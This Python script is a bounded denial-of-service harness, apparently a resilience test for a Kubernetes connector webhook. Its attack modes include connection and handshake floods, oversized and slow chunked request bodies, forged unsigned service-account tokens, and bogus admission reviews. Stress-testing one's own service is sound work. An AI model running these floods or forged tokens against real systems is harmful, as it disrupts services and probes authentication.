"""An attacker without credentials, in a Pod: `flood.py KIND HOST`. Its rate and its connections are bounded.

Standard library only. A line of JSON each two seconds says what it has done, and what came of it.
"""

import asyncio
import base64
import contextlib
import json
import ssl
import sys
import time
from collections import Counter
from collections.abc import Callable

IDLE = 2000
"""Connections that say nothing, at a time"""
IDLE_PER_SECOND = 400
HANDSHAKES_PER_SECOND = 30
BODIES_PER_SECOND = 6
"""Each of 6.9 MB of 7, and held for as long as the other end lets it"""
TOKENS_PER_SECOND = 60
CHUNKS_PER_SECOND = 30
"""Bodies of 128 KiB in chunks of one byte: 19 ms of the other end's time, where it reads them"""
MISSING_PER_SECOND = 60
"""Reviews that name sixteen Connectors which do not exist"""
HOLD_SECONDS = 30.0
CHUNK = 65536
done: Counter[str] = Counter()


def context() -> ssl.SSLContext:
    made = ssl.create_default_context()
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    return made


TLS = context()


def head(path: str, length: int, more: str = "") -> bytes:
    fields = f"Host: x\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n{more}"
    return f"POST {path} HTTP/1.1\r\n{fields}\r\n".encode()


async def hold(host: str, *, tls: bool, begin: bytes = b"") -> None:
    """Open a connection, send `begin`, and wait until the other end has enough of it."""
    try:
        reader, writer = await asyncio.open_connection(host, 443, ssl=TLS if tls else None)
    except OSError as error:
        done[f"not connected: {type(error).__name__}"] += 1
        return
    done["connected"] += 1
    try:
        for start in range(0, len(begin), CHUNK):
            writer.write(begin[start : start + CHUNK])
            await writer.drain()
        done["sent"] += 1
        async with asyncio.timeout(HOLD_SECONDS):
            await reader.read(1)
        done["ended by the other end"] += 1
    except TimeoutError:
        done["held to the end"] += 1
    except OSError as error:
        done[f"ended: {type(error).__name__}"] += 1
    finally:
        with contextlib.suppress(OSError):
            writer.close()


async def at_a_rate(per_second: float, most: int, attempt: object) -> None:
    """`attempt()` so often, with so many of them at a time."""
    running: set[asyncio.Task[None]] = set()
    while True:
        if len(running) < most:
            task = asyncio.create_task(attempt())  # type: ignore[operator]
            running.add(task)
            task.add_done_callback(running.discard)
        await asyncio.sleep(1 / per_second)


def made_up() -> str:
    """Everything in it that can be looked at is right."""
    claims = {
        "aud": ["pypi-connector"],
        "exp": int(time.time()) + 3600,
        "iss": "https://kubernetes.default.svc.cluster.local",
        "sub": "system:serviceaccount:default:default",
        "kubernetes.io": {"namespace": "default", "pod": {"name": "p", "uid": str(time.time())}},
    }
    parts = [json.dumps({"alg": "RS256", "kid": "x"}).encode(), json.dumps(claims).encode(), b"signature"]
    return ".".join(base64.urlsafe_b64encode(part).decode().rstrip("=") for part in parts)


def token_request() -> bytes:
    body = b'{"connector": "default/pypi"}'
    return head("/v1/grants", len(body), f"Authorization: Bearer {made_up()}\r\n") + body


def missing_request() -> bytes:
    named = ",".join(f"nowhere-{time.time_ns()}/c{number}" for number in range(16))
    pod = {
        "metadata": {"name": "p", "annotations": {"connectors.alauda.io/connector": named}},
        "spec": {"containers": [{"name": "main", "image": "python"}]},
    }
    request = {
        "uid": "1",
        "operation": "CREATE",
        "namespace": "eve",
        "resource": {"group": "", "version": "v1", "resource": "pods"},
        "object": pod,
    }
    review = {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}
    body = json.dumps(review).encode()
    return head("/mutate", len(body)) + body


async def ask_again(host: str, request: Callable[[], bytes], pause: float) -> None:
    """On one connection, until it ends."""
    with contextlib.suppress(OSError, asyncio.IncompleteReadError):
        reader, writer = await asyncio.open_connection(host, 443, ssl=TLS)
        while True:
            writer.write(request())
            answer = await reader.readuntil(b"\r\n\r\n")
            fields = answer.lower().split(b"\r\n")
            length = next(field for field in fields if field.startswith(b"content-length:"))
            await reader.readexactly(int(length.partition(b":")[2]))
            done[f"answered {answer.split()[1].decode()}"] += 1
            await asyncio.sleep(pause)
    done["ended"] += 1


async def tell() -> None:
    while True:
        await asyncio.sleep(2)
        sys.stdout.write(json.dumps(done) + "\n")
        sys.stdout.flush()


async def main(kind: str, host: str) -> None:
    unfinished = head("/mutate", 7_000_000) + b"[" * 6_900_000
    chunked = (
        b"POST /mutate HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" + b"1\r\n \r\n" * 21_800
    )
    attacks = {
        "idle": lambda: at_a_rate(IDLE_PER_SECOND, IDLE, lambda: hold(host, tls=False)),
        "handshakes": lambda: at_a_rate(HANDSHAKES_PER_SECOND, IDLE, lambda: hold(host, tls=True)),
        "bodies": lambda: at_a_rate(BODIES_PER_SECOND, 120, lambda: hold(host, tls=True, begin=unfinished)),
        "chunks": lambda: at_a_rate(CHUNKS_PER_SECOND, 100, lambda: hold(host, tls=True, begin=chunked)),
        "tokens": lambda: at_a_rate(8, 8, lambda: ask_again(host, token_request, 8 / TOKENS_PER_SECOND)),
        "missing": lambda: at_a_rate(8, 8, lambda: ask_again(host, missing_request, 8 / MISSING_PER_SECOND)),
    }
    await asyncio.gather(tell(), attacks[kind]())


asyncio.run(main(*sys.argv[1:]))
